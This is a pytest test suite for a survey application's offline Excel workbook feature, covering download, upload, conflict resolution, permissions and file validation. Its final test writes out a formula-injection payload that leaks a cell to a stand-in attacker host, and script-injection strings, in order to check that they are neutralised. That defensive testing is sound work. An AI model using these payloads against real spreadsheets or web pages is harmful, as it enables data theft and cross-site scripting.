"""Working offline: the questionnaire downloaded as a workbook, filled in with a spreadsheet
program (here openpyxl) and uploaded; its answers saved as the section pages save them."""

from __future__ import annotations

import dataclasses
import html
import io
import re
import zipfile
from datetime import datetime

import openpyxl
import pytest
import sqlalchemy as sa
from openpyxl.cell import Cell

from survey.core.audit import AuditEvent
from survey.core.db import db
from survey.cycles.services import current_cycle
from survey.questionnaires import editing
from survey.questionnaires.outline import Option, outline_of
from survey.questionnaires.services import published_version
from survey.responses import services
from survey.responses.models import ResponseStatus
from survey.responses.workbook import (
    ANSWER,
    HELP,
    KEY,
    META_SHEET,
    PARAGRAPH,
    TOKEN,
    answer_value,
)
from tests.conftest import login, page_text, response_of
from tests.responses.helpers import complete, save

SHEET_I = "I Advancing crime prevention"


# --- steps -----------------------------------------------------------------------------------

def download(client, response) -> bytes:
    reply = client.get(f"/responses/{response.id}/workbook.xlsx")
    assert reply.status_code == 200, page_text(reply)[:500]
    return reply.get_data()


def open_book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def answer_cells(book: openpyxl.Workbook) -> dict[str, Cell]:
    """The answer cell of each question, by the key in its row's hidden column."""
    cells = {}
    for sheet in book.worksheets:
        if sheet.sheet_state != "visible":
            continue
        for row in sheet.iter_rows(min_row=2, max_col=TOKEN):  # the Instructions: none
            if row[KEY - 1].value:
                cells[row[KEY - 1].value] = row[ANSWER - 1]
    return cells


def filled(data: bytes, **answers) -> bytes:
    """The workbook with these answer cells set (keys with "__" for ".")."""
    book = open_book(data)
    cells = answer_cells(book)
    for key, value in answers.items():
        cells[key.replace("__", ".")].value = value
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, response, data: bytes, name: str = "answers.xlsx"):
    return client.post(f"/responses/{response.id}/workbook",
                       data={"workbook": (io.BytesIO(data), name)})


def events(action: str) -> list[AuditEvent]:
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)
                                   .order_by(AuditEvent.id)))


@pytest.fixture
def number_and_date(make_user):
    """The cycle's questionnaire with a number and a date question in paragraph 22."""
    admin = make_user("admin", None)
    draft = editing.new_draft_from(published_version("kyoto-2021"), actor=admin)
    paragraph = editing.question_by_key(draft, "p22.status").paragraph
    editing.add_question(paragraph, {"key": "p22.budget", "type": "number",
                                     "label": "Annual budget (USD)"}, actor=admin)
    editing.add_question(paragraph, {"key": "p22.adopted_on", "type": "date",
                                     "label": "When was the strategy adopted?"}, actor=admin)
    editing.publish_draft(draft, actor=admin, cycles=[current_cycle()])
    db.session.commit()


# --- the download ----------------------------------------------------------------------------

def test_the_workbook_shows_the_questionnaire_with_the_answers_given(client, login_as):
    user = login_as("focal_point", "JPN")
    response = response_of("JPN")
    save(response, user, p22__status="partially", general__stakeholders=["government",
                                                                         "academia"])
    reply = client.get(f"/responses/{response.id}/workbook.xlsx")
    assert reply.status_code == 200
    assert reply.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert (f'filename=kyoto-self-assessment-JPN-{response.cycle.slug}-offline.xlsx'
            in reply.headers["Content-Disposition"])
    book = open_book(reply.get_data())

    visible = [s.title for s in book.worksheets if s.sheet_state == "visible"]
    assert visible[:3] == ["Instructions", "General information", "Commitments"]
    assert SHEET_I in visible
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in visible)
    assert book[META_SHEET].sheet_state == "veryHidden"
    instructions = " ".join(str(c.value) for row in book["Instructions"].iter_rows()
                            for c in row if c.value)
    assert "Japan" in instructions and response.cycle.name in instructions
    assert "yellow “Answer” column" in instructions and "separated by “;”" in instructions

    sheet = book[SHEET_I]
    assert [c.value for c in sheet[1]][:7] == [
        "Paragraph", "Text of the paragraph", "Question", "Guidance", "Required",
        "Allowed answers", "Answer"]
    assert sheet.freeze_panes == "A2"
    assert sheet.protection.sheet and not sheet.protection.password
    assert sheet.column_dimensions["H"].hidden and sheet.column_dimensions["I"].hidden
    rows = {row[KEY - 1].value: row for row in sheet.iter_rows(min_row=2)}
    status = rows["p22.status"]
    assert status[0].value == 22
    assert status[1].value == services.outline_for(response).paragraphs_by_number[22].text
    assert rows["p22.actions"][1].value is None  # once per paragraph
    assert status[ANSWER - 1].value == "Partially implemented"  # the label, not "partially"
    assert not status[ANSWER - 1].protection.locked
    assert rows["p22.measures"][ANSWER - 1].value is None
    assert "Answer if “To what extent has your State implemented this paragraph?” is: " \
           "Fully implemented, Largely implemented, Partially implemented." \
           in rows["p22.measures"][HELP - 1].value
    assert status[TOKEN - 1].value == services.answer_token(
        services.answers_of(response, ["p22.status"])["p22.status"])
    # A dropdown of the options' labels.
    [dropdown] = [dv for dv in sheet.data_validations.dataValidation
                  if status[ANSWER - 1].coordinate in dv.sqref]
    column = dropdown.formula1.split("!")[1].replace("$", "").split(":")[0][0]
    lists = book[dropdown.formula1.split("!")[0].strip("'")]
    assert [c.value for c in lists[column] if c.value] == [
        "Fully implemented", "Largely implemented", "Partially implemented",
        "Not yet implemented", "Not applicable"]
    general = {row[KEY - 1].value: row for row in book["General information"].iter_rows(min_row=2)}
    assert general["general.stakeholders"][ANSWER - 1].value == \
        "Government ministries and agencies; Academia and the scientific community"


def test_the_response_page_offers_the_workbook(client, login_as):
    login_as("contributor", "JPN")
    response = response_of("JPN")
    page = client.get(f"/responses/{response.id}")
    body = page.get_data(as_text=True)
    assert f'href="/responses/{response.id}/workbook.xlsx"' in body
    assert f'action="/responses/{response.id}/workbook"' in body
    assert 'enctype="multipart/form-data"' in body and 'type="file"' in body
    assert "Work offline" in page_text(page)


def test_an_arabic_speakers_workbook_reads_right_to_left(client, login_as):
    user = login_as("focal_point", "JPN")
    user.locale = "ar"
    db.session.commit()
    book = open_book(download(client, response_of("JPN")))
    assert all(sheet.sheet_view.rightToLeft for sheet in book.worksheets)


def test_another_states_response_has_no_workbook_for_them(client, login_as):
    login_as("focal_point", "JPN")
    other = response_of("FRA")
    assert client.get(f"/responses/{other.id}/workbook.xlsx").status_code == 404
    assert client.get(f"/responses/{other.id}/workbook").status_code == 404
    assert upload(client, other, b"anything").status_code == 404


# --- the upload ------------------------------------------------------------------------------

def test_answers_written_offline_are_saved_audited_and_shown(client, login_as,
                                                             number_and_date):
    user = login_as("focal_point", "JPN")
    response = response_of("JPN")
    measures = "The Crime Prevention Act 2019,\nsection 4;\nsection 5."
    data = filled(download(client, response),
                  general__stakeholders="Government ministries and agencies;  civil society",
                  p22__status="Partially implemented",  # from the dropdown
                  p22__actions="OTHER",  # an option's value is understood too
                  p22__budget=1250.5, p22__adopted_on=datetime(2024, 5, 17),
                  p22__measures=measures)

    page = upload(client, response, data)
    assert page.status_code == 200, page_text(page)[:800]
    assert "6 answers were saved." in page_text(page)
    assert "Some answers were not saved" not in page_text(page)
    values = services.answer_values(response)
    assert values == {"general.stakeholders": ["government", "civil_society"],
                      "p22.status": "partially", "p22.actions": ["other"],
                      "p22.budget": 1250.5, "p22.adopted_on": "2024-05-17",
                      "p22.measures": measures}
    saved_events = events("answer.saved")
    assert {e.object_id.split(":", 1)[1] for e in saved_events} == set(values)
    assert {e.actor_id for e in saved_events} == {user.id}
    [uploaded] = events("response.workbook_uploaded")
    assert uploaded.actor_id == user.id and uploaded.object_id == str(response.id)
    questions = len(services.outline_for(response).questions_by_key)
    assert uploaded.after == {"file": "answers.xlsx", "saved": 6, "unchanged": questions - 6,
                              "invalid": 0, "conflicts": 0, "not_permitted": 0}
    db.session.refresh(response)
    assert response.status is ResponseStatus.IN_PROGRESS

    section = client.get(f"/responses/{response.id}/sections/I").get_data(as_text=True)
    assert html.escape(measures, quote=False) in section
    assert 'value="1250.5"' in section and 'value="2024-05-17"' in section
    # The next download shows them, a date as a date.
    cells = answer_cells(open_book(download(client, response)))
    assert cells["p22.adopted_on"].value == datetime(2024, 5, 17)
    assert cells["p22.adopted_on"].number_format == "yyyy-mm-dd"
    assert cells["p22.budget"].value == 1250.5
    assert cells["general.stakeholders"].value == "Government ministries and agencies; " \
                                                  "Civil society"


def test_a_workbook_uploaded_unchanged_saves_nothing(client, login_as):
    user = login_as("focal_point", "JPN")
    response = response_of("JPN")
    save(response, user, p22__status="fully", p22__actions=["a1", "other"],
         p22__measures="Line one\nLine two", general__coordinating_institution="Ministry")
    revisions = dict(db.session.execute(sa.text(
        "SELECT question_key, revision FROM answers WHERE response_id = :id"),
        {"id": response.id}).all())
    before = len(events("answer.saved"))

    page = upload(client, response, download(client, response))
    assert page.status_code == 200
    assert "0 answers were saved." in page_text(page)
    assert len(events("answer.saved")) == before
    assert dict(db.session.execute(sa.text(
        "SELECT question_key, revision FROM answers WHERE response_id = :id"),
        {"id": response.id}).all()) == revisions
    [uploaded] = events("response.workbook_uploaded")
    assert uploaded.after["saved"] == 0 and uploaded.after["invalid"] == 0


def test_an_invalid_answer_is_listed_with_its_sheet_and_row_and_the_others_are_saved(
        client, login_as):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    data = download(client, response)
    book = open_book(data)
    cells = answer_cells(book)
    cells["p22.status"].value = "Mostly"
    cells["general.executive_summary"].value = "x" * 3501
    cells["general.coordinating_institution"].value = "Ministry of Justice"
    status_row = cells["p22.status"].row

    page = upload(client, response, saved(book))
    assert page.status_code == 200
    text = page_text(page)
    assert "1 answer was saved." in text
    assert "Some answers were not saved" in text
    assert (f"{SHEET_I} {status_row} Paragraph 22 — To what extent has your State implemented "
            f"this paragraph? Mostly Choose one of the options given.") in text
    assert "the limit is 3,500" in text and "x" * 3501 in text  # what they wrote is shown
    assert services.answer_values(response) == {
        "general.coordinating_institution": "Ministry of Justice"}


def test_an_answer_changed_online_since_the_download_is_a_conflict_not_overwritten(
        client, login_as, make_user):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    data = download(client, response)
    colleague = make_user("contributor", "JPN", name="Aiko Tanaka")
    save(response, colleague, p21__measures="Their measures",
         p21__authorities="Their authorities", general__stakeholders=["parliament"])

    page = upload(client, response, filled(
        data, p21__measures="My measures",
        general__stakeholders="Parliament; Judiciary"))  # authorities left as downloaded
    assert page.status_code == 200
    text = page_text(page)
    assert "0 answers were saved." in text
    assert "2 answers were changed online since you downloaded the workbook" in text
    assert "Your version (from the file): My measures" in text
    assert "by Aiko Tanaka): Their measures" in text
    assert services.answer_values(response) == {
        "p21.measures": "Their measures", "p21.authorities": "Their authorities",
        "general.stakeholders": ["parliament"]}

    # One form for the conflicts: the user keeps their version of the stakeholders and
    # leaves the measures as they are online (the default).
    fields = resolve_form(page)
    assert fields["conflicts"] == "2"
    stakeholders = next(i for i in range(2) if fields[f"key-{i}"] == "general.stakeholders")
    fields[f"keep-{stakeholders}"] = "mine"
    result = client.post(f"/responses/{response.id}/workbook/resolve", data=fields)
    assert result.status_code == 200
    text = page_text(result)
    assert "Your version of 1 answer was saved." in text
    assert "The online version of 1 answer was kept." in text
    assert "Some answers were not saved" not in text
    assert services.answer_values(response)["general.stakeholders"] == ["parliament",
                                                                        "judiciary"]
    assert services.answer_values(response)["p21.measures"] == "Their measures"


def resolve_form(page) -> dict[str, str]:
    """The fields the result page's conflict form sends as it stands (radios as checked)."""
    body = re.search(r'<form method="post" action="[^"]+/workbook/resolve">(.*?)</form>',
                     page.get_data(as_text=True), flags=re.S)[1]
    fields = {name: html.unescape(single or double)
              for name, single, double in re.findall(
                  r'<input type="hidden" name="([^"]+)" value=(?:\'([^\']*)\'|"([^"]*)")',
                  body)}
    for name in re.findall(r'<input type="radio" id="[^"]+" name="([^"]+)" value="theirs" '
                           r'checked>', body):
        fields[name] = "theirs"
    return fields


def test_conflicts_resolved_together_and_one_changed_again_is_a_conflict_again(
        client, login_as, make_user):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    data = download(client, response)
    colleague = make_user("contributor", "JPN", name="Aiko Tanaka")
    save(response, colleague, p21__measures="Their measures", p21__authorities="Their bodies",
         p22__measures="Their 22")
    page = upload(client, response, filled(
        data, p21__measures="My measures", p21__authorities="My bodies", p22__measures="My 22"))
    fields = resolve_form(page)
    assert fields["conflicts"] == "3"
    for i in range(3):
        fields[f"keep-{i}"] = "mine"
    # Meanwhile the colleague changes one of them once more.
    save(response, colleague, p22__measures="Their 22, revised")

    result = client.post(f"/responses/{response.id}/workbook/resolve", data=fields)
    text = page_text(result)
    assert "Your version of 2 answers was saved." in text
    assert "1 answer was changed online since you downloaded the workbook" in text
    assert "by Aiko Tanaka): Their 22, revised" in text
    values = services.answer_values(response)
    assert values["p21.measures"] == "My measures"
    assert values["p21.authorities"] == "My bodies"
    assert values["p22.measures"] == "Their 22, revised"  # never overwritten unseen

    # The page offers that one again; keeping it now saves it, audited as any save.
    again = resolve_form(result)
    assert again["conflicts"] == "1" and again["key-0"] == "p22.measures"
    again["keep-0"] = "mine"
    final = client.post(f"/responses/{response.id}/workbook/resolve", data=again)
    assert "Your version of 1 answer was saved." in page_text(final)
    assert services.answer_values(response)["p22.measures"] == "My 22"
    saves = [e for e in events("answer.saved") if e.object_id == f"{response.id}:p22.measures"]
    assert saves[-1].after["value"] == "My 22"


def test_resolving_refuses_a_malformed_form(client, login_as):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    url = f"/responses/{response.id}/workbook/resolve"
    assert client.post(url, data={"conflicts": "many"}).status_code == 400
    assert client.post(url, data={"conflicts": "1", "key-0": "p21.measures",
                                  "value-0": "{not json", "token-0": ""}).status_code == 400
    assert services.answer_values(response) == {}


def test_an_option_whose_label_has_a_semicolon_is_read_whole(app):
    outline = outline_of(published_version("kyoto-2021"))
    question = dataclasses.replace(outline.questions_by_key["p21.assistance"], options=(
        Option("policy", "Policy; strategy"), Option("law", "Legislation"),
        Option("other", "Other")))
    assert answer_value(question, "Policy; strategy; Legislation") == ["policy", "law"]
    assert answer_value(question, "Legislation\nPolicy; strategy") == ["law", "policy"]
    assert answer_value(question, "Legislation؛ Other") == ["law", "other"]
    assert answer_value(question, "Strategy; Legislation") == ["Strategy", "law"]  # no option


def test_another_states_workbook_is_refused(app, client, make_user):
    japan = app.test_client()
    login(japan, make_user("focal_point", "JPN"))
    data = filled(download(japan, response_of("JPN")), p22__status="Fully implemented")
    login(client, make_user("focal_point", "FRA"))
    page = upload(client, response_of("FRA"), data)
    assert page.status_code == 422
    text = page_text(page)
    assert "Nothing from this file was saved" in text
    assert "This workbook is the questionnaire of another State (JPN), not of France." in text
    assert services.answer_values(response_of("FRA")) == {}
    assert events("response.workbook_uploaded") == []


def test_a_workbook_of_an_earlier_questionnaire_version_is_refused(client, login_as,
                                                                   make_user):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    data = filled(download(client, response), p22__status="Fully implemented")
    admin = make_user("admin", None)
    draft = editing.new_draft_from(published_version("kyoto-2021"), actor=admin)
    editing.publish_draft(draft, actor=admin, cycles=[current_cycle()])
    db.session.commit()
    page = upload(client, response, data)
    assert page.status_code == 422
    assert "The questionnaire has changed since this workbook was downloaded." in page_text(page)
    assert services.answer_values(response) == {}


def test_a_contributors_answers_outside_their_sections_are_reported_not_saved(
        client, login_as):
    from survey.auth.models import ContributorSection

    contributor = login_as("contributor", "JPN")
    db.session.add(ContributorSection(user_id=contributor.id, section_key="I"))
    db.session.commit()
    response = response_of("JPN")
    book = open_book(download(client, response))
    cells = answer_cells(book)
    assert not cells["p22.status"].protection.locked
    assert cells["general.coordinating_institution"].protection.locked  # not theirs

    page = upload(client, response, filled(
        saved(book), p22__status="Fully implemented",
        general__coordinating_institution="Ministry", general__executive_summary="Summary"))
    assert page.status_code == 200
    text = page_text(page)
    assert "1 answer was saved." in text
    assert ("Not saved: you may not edit the section “General information” (2 answers)."
            in text)
    assert services.answer_values(response) == {"p22.status": "fully"}
    assert events("response.workbook_uploaded")[0].after["not_permitted"] == 2


def test_an_observer_downloads_but_cannot_upload(app, client, make_user):
    response = response_of("JPN")
    focal_point = app.test_client()
    login(focal_point, make_user("focal_point", "JPN"))
    data = filled(download(focal_point, response), p22__status="Fully implemented")
    login(client, make_user("observer", "JPN"))
    book = open_book(download(client, response))
    assert answer_cells(book)["p22.status"].protection.locked
    assert "Upload it once filled in" not in page_text(client.get(f"/responses/{response.id}"))
    assert upload(client, response, data).status_code == 403
    assert services.answer_values(response) == {}


def test_a_locked_response_refuses_the_upload(client, make_user):
    focal_point = make_user("focal_point", "JPN")
    response = response_of("JPN")
    login(client, focal_point)
    data = download(client, response)
    complete(response, focal_point)
    services.submit(response, actor=focal_point)
    db.session.commit()
    values = services.answer_values(response)

    page = upload(client, response, filled(data, p22__status="Fully implemented"))
    assert page.status_code == 409
    assert "The response has been submitted." in page_text(page)
    assert services.answer_values(response) == values
    assert events("response.workbook_uploaded") == []
    form_page = client.get(f"/responses/{response.id}/workbook")
    assert 'type="file"' not in form_page.get_data(as_text=True)
    assert "Nothing can be uploaded now." in page_text(form_page)


@pytest.mark.parametrize(("content", "name", "message"), [
    (b"state,question,answer\nJPN,p22.status,fully\n", "answers.csv",
     "This file is not an Excel workbook (.xlsx)."),
    (b"%PDF-1.7\n", "answers.xlsx", "This file is not an Excel workbook (.xlsx)."),
    ("opendocument", "answers.ods", "This file is not an Excel workbook (.xlsx)."),
    ("truncated", "answers.xlsx", "This workbook could not be read; it may be damaged."),
    ("no meta", "answers.xlsx", "This workbook was not downloaded from this site"),
    ("", "answers.xlsx", "Choose the workbook to upload."),
])
def test_a_file_that_is_not_a_workbook_of_ours_gets_a_clear_message(
        client, login_as, content, name, message):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    real = filled(download(client, response), p22__status="Fully implemented")
    if content == "opendocument":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as package:
            package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            package.writestr("content.xml", "<office:document-content/>")
        content = buffer.getvalue()
    elif content == "truncated":
        content = real[:len(real) // 2]
    elif content == "no meta":
        book = open_book(real)
        del book[META_SHEET]
        content = saved(book)
    page = (client.post(f"/responses/{response.id}/workbook", data={}) if content == ""
            else upload(client, response, content, name))
    assert page.status_code == 422
    assert message in page_text(page)
    assert 'type="file"' in page.get_data(as_text=True)  # to try again
    assert services.answer_values(response) == {}


def test_a_workbook_whose_columns_were_changed_is_refused(client, login_as):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    book = open_book(filled(download(client, response), p22__status="Fully implemented"))
    book[SHEET_I].delete_cols(PARAGRAPH)
    page = upload(client, response, saved(book))
    assert page.status_code == 422
    assert f"The sheet “{SHEET_I}” does not have the expected columns" in page_text(page)
    assert services.answer_values(response) == {}


def test_rows_beyond_the_questionnaires_size_are_not_read(client, login_as):
    login_as("focal_point", "JPN")
    response = response_of("JPN")
    book = open_book(download(client, response))
    sheet = book[SHEET_I]
    real = answer_cells(book)["p22.status"].row
    far = 50_000
    sheet.cell(far, KEY).value = "p22.status"
    sheet.cell(far, TOKEN).value = sheet.cell(real, TOKEN).value
    sheet.cell(far, ANSWER).value = "Fully implemented"
    sheet.cell(real, KEY).value = None
    page = upload(client, response, saved(book))
    assert page.status_code == 200
    assert services.answer_values(response) == {}


def test_hostile_text_stays_text_in_the_workbook_and_escaped_on_the_page(client, login_as):
    user = login_as("focal_point", "JPN")
    response = response_of("JPN")
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    save(response, user, p22__measures=hyperlink, p22__examples="<script>alert(1)</script>",
         p22__authorities="=1+1")
    data = download(client, response)
    cells = answer_cells(open_book(data))
    for key, text in [("p22.measures", hyperlink), ("p22.examples", "<script>alert(1)</script>"),
                      ("p22.authorities", "=1+1")]:
        assert cells[key].value == text and cells[key].data_type == "s", key
    # Read as a spreadsheet program's computed values would be: still the text.
    computed = openpyxl.load_workbook(io.BytesIO(data), data_only=True)
    assert answer_cells(computed)["p22.measures"].value == hyperlink

    book = open_book(data)
    cells = answer_cells(book)
    cells["p22.status"].value = "<script>alert('x')</script>"
    cells["p22.challenges_details"].value = "=2+2"
    cells["p22.challenges_details"].data_type = "s"  # typed as text, as the cell's format says
    page = upload(client, response, saved(book))
    assert page.status_code == 200
    body = page.get_data(as_text=True)
    assert "<script>alert('x')</script>" not in body
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in body
    values = services.answer_values(response)
    assert values["p22.challenges_details"] == "=2+2"
    assert values["p22.measures"] == hyperlink and "p22.status" not in values
